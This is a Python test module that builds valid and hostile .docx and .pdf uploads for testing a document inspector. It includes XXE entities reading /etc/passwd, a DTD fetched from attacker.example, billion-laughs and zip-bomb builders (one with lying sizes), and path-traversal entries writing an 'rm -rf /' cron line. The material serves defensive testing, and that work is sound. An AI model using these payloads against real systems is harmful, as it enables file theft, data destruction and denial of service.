"""A corpus of good and hostile uploads for the document inspector, built at test time.

Nothing binary is committed: every file is made here, in memory, in well
under a second. The zip bombs inflate past 1 GiB yet take about a megabyte:
a deflate block for 1 MiB of zeros, flushed to a byte boundary, is the same
bytes every time, so the stream is that block repeated.

``CORPUS`` lists every hostile file with the reason it must be refused for;
``run_corpus()`` inspects them all (the memory test runs it in a child).
"""
import functools
import io
import random
import struct
import zipfile
import zlib

import docx

GIB = 1024 ** 3
MIB = 1024 ** 2

# ---------------------------------------------------------------------------
# ZIP, by hand (zipfile cannot write pre-compressed data or lie about sizes)
# ---------------------------------------------------------------------------


@functools.lru_cache(maxsize=None)
def deflated_zeros(size, wbits=-15):
    """(compressed stream, crc32) of ``size`` zero bytes (a multiple of 1 MiB), built in milliseconds."""
    zeros = bytes(MIB)
    compressor = zlib.compressobj(9, zlib.DEFLATED, wbits)
    first = compressor.compress(zeros) + compressor.flush(zlib.Z_FULL_FLUSH)
    block = compressor.compress(zeros) + compressor.flush(zlib.Z_FULL_FLUSH)
    count = size // MIB
    if wbits > 0:
        # zlib wrapper: header in the first block, Adler-32 of n zeros is (n mod 65521) << 16 | 1.
        tail = b"\x03\x00" + struct.pack(">L", ((size % 65521) << 16) | 1)
        return first + block * (count - 1) + tail, None
    crc = 0
    for _ in range(count):
        crc = zlib.crc32(zeros, crc)
    return block * count + b"\x03\x00", crc


def member(name, payload=b"", *, raw=None, crc=None, size=None, declared=None, compressed=None,
           stored=False):
    """A ZIP member: deflated (or ``stored``) from ``payload``, or ``raw`` deflate data with its crc and size.

    ``declared`` and ``compressed`` make the directory claim other sizes than the real ones.
    """
    if raw is None:
        if stored:
            raw = payload
        else:
            compressor = zlib.compressobj(6, zlib.DEFLATED, -15)
            raw = compressor.compress(payload) + compressor.flush()
        crc, size = zlib.crc32(payload), len(payload)
    return {"name": name, "raw": raw, "crc": crc, "size": size, "method": 0 if stored else 8,
            "declared": size if declared is None else declared,
            "compressed": len(raw) if compressed is None else compressed}


def zip_bytes(members, *, zip64=False):
    """A ZIP archive of ``members`` (see ``member``), declared sizes as given.

    With ``zip64`` the central directory keeps sizes and offsets in ZIP64
    extra fields and ends with a ZIP64 end record, as large-file writers do.
    """
    out, central = io.BytesIO(), []
    for m in members:
        name = m["name"].encode()
        offset = out.tell()
        fields = (20, 0x800, m["method"], 0, 0x21, m["crc"], m["compressed"], m["declared"], len(name))
        out.write(struct.pack("<4s5H3L2H", b"PK\x03\x04", *fields, 0) + name + m["raw"])
        if zip64:
            extra = struct.pack("<2H3Q", 1, 24, m["declared"], m["compressed"], offset)
            big = fields[:6] + (0xFFFFFFFF, 0xFFFFFFFF) + fields[8:]
            central.append(struct.pack("<4s6H3L5H2L", b"PK\x01\x02", 45, *big, len(extra), 0, 0, 0, 0,
                                       0xFFFFFFFF) + name + extra)
        else:
            central.append(struct.pack("<4s6H3L5H2L", b"PK\x01\x02", 20, *fields, 0, 0, 0, 0, 0, offset)
                           + name)
    start = out.tell()
    out.write(b"".join(central))
    size, count = out.tell() - start, len(members)
    if zip64:
        record = out.tell()
        out.write(struct.pack("<4sQ2H2L4Q", b"PK\x06\x06", 44, 45, 45, 0, 0, count, count, size, start))
        out.write(struct.pack("<4sLQL", b"PK\x06\x07", 0, record, 1))
        out.write(struct.pack("<4s4H2LH", b"PK\x05\x06", 0, 0, 0xFFFF, 0xFFFF, 0xFFFFFFFF, 0xFFFFFFFF, 0))
    else:
        out.write(struct.pack("<4s4H2LH", b"PK\x05\x06", 0, 0, count, count, size, start, 0))
    return out.getvalue()


def parts_of(data):
    """The members of a (trusted) ZIP as {name: bytes}."""
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return {info.filename: archive.read(info) for info in archive.infolist()}


def rezip(parts, **options):
    """A ZIP of {name: bytes}."""
    return zip_bytes([member(name, payload) for name, payload in parts.items()], **options)


# ---------------------------------------------------------------------------
# Good documents
# ---------------------------------------------------------------------------

@functools.lru_cache(maxsize=None)
def valid_docx():
    """An anti-risk programme in Word: a title, headings, a table, body text."""
    document = docx.Document()
    document.add_heading("Антирисковая программа", 0)
    document.add_heading("1. Цели", level=1)
    document.add_paragraph("Повысить долю обучающихся, освоивших программу.")
    document.add_heading("2. Задачи", level=1)
    document.add_paragraph("Обновить систему оценивания.")
    table = document.add_table(rows=2, cols=2)
    table.cell(0, 0).text = "Показатель"
    table.cell(0, 1).text = "Значение"
    table.cell(1, 0).text = "Доля школ с низкими результатами"
    table.cell(1, 1).text = "12 %"
    document.add_paragraph("Итог после таблицы.")
    out = io.BytesIO()
    document.save(out)
    return out.getvalue()


def docx_parts(changes):
    """The valid .docx with parts replaced or added ({name: bytes}), or removed (None)."""
    parts = parts_of(valid_docx())
    for name, payload in changes.items():
        if payload is None:
            parts.pop(name, None)
        else:
            parts[name] = payload
    return rezip(parts)


@functools.lru_cache(maxsize=None)
def valid_xlsx():
    """A workbook of indicators with two sheets."""
    import openpyxl
    book = openpyxl.Workbook()
    sheet = book.active
    sheet.title = "Показатели"
    sheet.append(["Школа", "Доля"])
    sheet.append(["Школа № 1", 0.5])
    book.create_sheet("Итоги")
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def pdf_bytes(*pages, content=None, filter_=None):
    """A PDF whose pages hold the given lines (Cyrillic too), or one page with raw ``content``.

    The font is Helvetica with a ToUnicode map from Windows-1251 codes, so
    the text comes back out as Unicode without embedding a font.
    """
    pages = pages or (["Пустая страница"],)
    codes = sorted({b for page in pages for line in page for b in line.encode("cp1251")})
    tounicode = (b"/CIDInit /ProcSet findresource begin 12 dict begin begincmap\n"
                 b"/CIDSystemInfo << /Registry (Adobe) /Ordering (UCS) /Supplement 0 >> def\n"
                 b"/CMapName /Adobe-Identity-UCS def /CMapType 2 def\n"
                 b"1 begincodespacerange <00> <FF> endcodespacerange\n")
    for start in range(0, len(codes), 100):
        chunk = codes[start:start + 100]
        tounicode += b"%d beginbfchar\n" % len(chunk)
        for code in chunk:
            tounicode += b"<%02X> <%04X>\n" % (code, ord(bytes([code]).decode("cp1251")))
        tounicode += b"endbfchar\n"
    tounicode += b"endcmap CMapName currentdict /CMap defineresource pop end end"

    objects = {1: b"<< /Type /Catalog /Pages 2 0 R >>",
               3: b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /ToUnicode 4 0 R >>",
               4: b"<< /Length %d >>\nstream\n%s\nendstream" % (len(tounicode), tounicode)}
    kids = []
    for index, page in enumerate(pages):
        page_id, stream_id = 5 + 2 * index, 6 + 2 * index
        body = content if content is not None else (
            b"BT /F1 14 Tf 16 TL 72 760 Td "
            + b" ".join(b"<%s> Tj T*" % line.encode("cp1251").hex().encode() for line in page) + b" ET")
        extra = b" /Filter /%s" % filter_.encode() if filter_ else b""
        objects[page_id] = (b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] "
                            b"/Resources << /Font << /F1 3 0 R >> >> /Contents %d 0 R >>" % stream_id)
        objects[stream_id] = b"<< /Length %d%s >>\nstream\n%s\nendstream" % (len(body), extra, body)
        kids.append(b"%d 0 R" % page_id)
    objects[2] = b"<< /Type /Pages /Kids [%s] /Count %d >>" % (b" ".join(kids), len(kids))

    out = io.BytesIO()
    out.write(b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n")
    offsets = {}
    for number in sorted(objects):
        offsets[number] = out.tell()
        out.write(b"%d 0 obj\n%s\nendobj\n" % (number, objects[number]))
    xref = out.tell()
    size = max(objects) + 1
    out.write(b"xref\n0 %d\n0000000000 65535 f \n" % size)
    for number in range(1, size):
        out.write(b"%010d 00000 n \n" % offsets[number])
    out.write(b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (size, xref))
    return out.getvalue()


def valid_pdf():
    """A two-page anti-risk programme in PDF."""
    return pdf_bytes(["Антирисковая программа", "1. Цели", "Повысить долю обучающихся."],
                     ["2. Задачи", "Обновить систему оценивания.", "Показатели"])


def encrypted_pdf():
    """A PDF that opens only with a password."""
    import pypdf
    writer = pypdf.PdfWriter(clone_from=io.BytesIO(valid_pdf()))
    writer.encrypt(user_password="секрет", owner_password="owner", algorithm="RC4-128")
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def owner_only_pdf():
    """A PDF restricted by an owner password only: opens in any viewer without asking."""
    import pypdf
    writer = pypdf.PdfWriter(clone_from=io.BytesIO(valid_pdf()))
    writer.encrypt(user_password="", owner_password="owner", algorithm="RC4-128")
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


# ---------------------------------------------------------------------------
# Hostile documents
# ---------------------------------------------------------------------------

_W = b'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'


def document_xml(doctype=b"", body=b"<w:p><w:r><w:t>Text</w:t></w:r></w:p>", encoding="utf-8"):
    """A word/document.xml with an optional DOCTYPE, in the given encoding."""
    text = (b'<?xml version="1.0" encoding="%s" standalone="yes"?>\n%s'
            b"<w:document %s><w:body>%s</w:body></w:document>" % (encoding.encode(), doctype, _W, body))
    return text.decode("utf-8").encode(encoding) if encoding.lower() != "utf-8" else text


def xxe_docx():
    """document.xml declares an external entity that reads /etc/passwd."""
    return docx_parts({"word/document.xml": document_xml(
        b'<!DOCTYPE w:document [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>\n',
        b"<w:p><w:r><w:t>&xxe;</w:t></w:r></w:p>")})


def billion_laughs_docx():
    """document.xml with ten levels of nested entities (10^9 "lol"s if expanded)."""
    entities = [b'<!ENTITY lol0 "lol">']
    entities += [b'<!ENTITY lol%d "%s">' % (i, b"&lol%d;" % (i - 1) * 10) for i in range(1, 10)]
    return docx_parts({"word/document.xml": document_xml(
        b"<!doctype w:document [" + b"".join(entities) + b"]>\n",
        b"<w:p><w:r><w:t>&lol9;</w:t></w:r></w:p>")})


def utf16_doctype_docx():
    """A DOCTYPE hidden from a byte search for ASCII by writing the part in UTF-16.

    In a part the inspector does not parse, so only the byte scan can find it.
    """
    xml = '<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE r [<!ENTITY x "y">]><r>&x;</r>'
    return docx_parts({"customXml/item2.xml": xml.encode("utf-16")})


def utf7_docx():
    """A part declared in UTF-7, in which "<!DOCTYPE" would be "+ADw-!DOCTYPE"."""
    return docx_parts({"word/document.xml": b'<?xml version="1.0" encoding="UTF-7"?>\n'
                                            b'+ADw-!DOCTYPE x+AD4-<w:document ' + _W + b"/>"})


def doctype_in_other_part_docx():
    """A DOCTYPE in a part the inspector never parses (custom XML) is refused all the same."""
    return docx_parts({"customXml/item1.xml":
                       b'<?xml version="1.0"?><!DOCTYPE r SYSTEM "http://attacker.example/x.dtd"><r/>'})


def zip_bomb_docx(size=GIB + 64 * MIB):
    """A real .docx plus one media part of zeros inflating past 1 GiB, sizes declared honestly."""
    raw, crc = deflated_zeros(size)
    parts = parts_of(valid_docx())
    return zip_bytes([member(n, p) for n, p in parts.items()]
                     + [member("word/media/image1.png", raw=raw, crc=crc, size=size)])


def lying_zip_bomb_docx(size=GIB + 64 * MIB):
    """The same bomb, but the directory claims the part inflates to 10 KB."""
    raw, crc = deflated_zeros(size)
    parts = parts_of(valid_docx())
    return zip_bytes([member(n, p) for n, p in parts.items()]
                     + [member("word/media/image1.png", raw=raw, crc=crc, size=size, declared=10_000)])


def overlapping_docx():
    """Two parts sharing bytes: the first claims the second's header and data as its own.

    Overlap is how non-recursive zip bombs reuse one compressed kernel for
    thousands of entries; it is refused before anything inflates.
    """
    kernel = member("word/media/b.bin", random.Random(1).randbytes(MIB))
    cover = 30 + len(kernel["name"].encode()) + kernel["compressed"]
    shell = member("word/media/a.bin", raw=b"", crc=kernel["crc"], size=MIB, compressed=cover)
    return zip_bytes([member(n, p) for n, p in parts_of(valid_docx()).items()] + [shell, kernel])


def traversal_docx(entry_name="../../etc/cron.d/evil"):
    """A .docx with an extra part whose name climbs out of any directory it is unpacked into."""
    return docx_parts({entry_name: b"* * * * * root rm -rf /"})


def macro_docx():
    """A macro-enabled document (a VBA project inside) named .docx."""
    return docx_parts({"word/vbaProject.bin": b"\xd0\xcf\x11\xe0 fake VBA"})


def many_entries_docx(count=1500):
    """A .docx padded with ``count`` tiny parts."""
    return docx_parts({f"word/media/x{i}.bin": b"" for i in range(count)})


def truncated_docx():
    """The valid .docx cut in half, as an interrupted download leaves it."""
    data = valid_docx()
    return data[:len(data) // 2]


def pdf_bomb():
    """A PDF page whose content stream inflates to 1 GiB of zeros."""
    raw, _ = deflated_zeros(GIB, wbits=15)
    return pdf_bytes(content=raw, filter_="FlateDecode")


def corrupt_pdf():
    """Something that starts like a PDF and is not one."""
    return b"%PDF-1.7\n" + bytes(range(256)) * 40 + b"\n%%EOF"


class EndlessStream(io.RawIOBase):
    """An upload that never ends; counts how much was read from it."""

    def __init__(self):
        self.read_bytes = 0

    def readable(self):
        return True

    def readinto(self, buffer):
        n = len(buffer)
        buffer[:n] = bytes(n)
        self.read_bytes += n
        return n


# name -> (filename, builder, limits overrides, reason it must be refused for)
CORPUS = {
    "empty": ("пустой.docx", lambda: b"", {}, "empty"),
    "oversize": ("большой.pdf", lambda: b"%PDF-1.4\n" + bytes(2048), {"max_size": 1024}, "too_large"),
    "endless": ("бесконечный.pdf", EndlessStream, {}, "too_large"),
    "pdf_named_docx": ("программа.docx", valid_pdf, {}, "type"),
    "docx_named_pdf": ("программа.pdf", valid_docx, {}, "type"),
    "xlsx_named_docx": ("программа.docx", valid_xlsx, {}, "type"),
    "exe_named_docx": ("программа.docx", lambda: b"MZ\x90\x00" + bytes(100), {}, "type"),
    "xxe": ("xxe.docx", xxe_docx, {}, "doctype"),
    "billion_laughs": ("laughs.docx", billion_laughs_docx, {}, "doctype"),
    "utf16_doctype": ("utf16.docx", utf16_doctype_docx, {}, "doctype"),
    "doctype_other_part": ("other.docx", doctype_in_other_part_docx, {}, "doctype"),
    "utf7": ("utf7.docx", utf7_docx, {}, "encoding"),
    "zip_bomb": ("bomb.docx", zip_bomb_docx, {}, "bomb"),
    "lying_zip_bomb": ("liar.docx", lying_zip_bomb_docx, {}, "bomb"),
    "overlapping_parts": ("overlap.docx", overlapping_docx, {}, "bomb"),
    "traversal": ("path.docx", traversal_docx, {}, "entry_name"),
    "absolute": ("abs.docx", lambda: traversal_docx("/etc/passwd"), {}, "entry_name"),
    "backslash": ("win.docx", lambda: traversal_docx("..\\..\\Windows\\evil.dll"), {}, "entry_name"),
    "many_entries": ("many.docx", many_entries_docx, {}, "entries"),
    "macros": ("macro.docx", macro_docx, {}, "macros"),
    "truncated_docx": ("cut.docx", truncated_docx, {}, "corrupt"),
    "pdf_bomb": ("bomb.pdf", pdf_bomb, {}, "pdf_limits"),
    "corrupt_pdf": ("broken.pdf", corrupt_pdf, {}, "corrupt"),
    "encrypted_pdf": ("secret.pdf", encrypted_pdf, {}, "encrypted"),
    "too_many_pages": ("long.pdf", lambda: pdf_bytes(["1"], ["2"], ["3"]), {"max_pdf_pages": 2}, "pages"),
}

GOOD = {
    "docx": ("программа.docx", valid_docx),
    "pdf": ("программа.pdf", valid_pdf),
    "owner_only_pdf": ("права.pdf", owner_only_pdf),
}


def run_corpus():
    """Inspect every file of the corpus; {name: reason refused, or the kind accepted}."""
    from core.docinspect import InspectionRefused, Limits, inspect_upload
    results = {}
    for name, (filename, build, overrides, _) in CORPUS.items():
        source = build()
        try:
            inspect_upload(source, filename, allowed=("docx", "pdf"), limits=Limits(**overrides))
            results[name] = "accepted"
        except InspectionRefused as exc:
            results[name] = exc.reason
        del source
    for name, (filename, build) in GOOD.items():
        results[name] = inspect_upload(build(), filename).kind
    return results
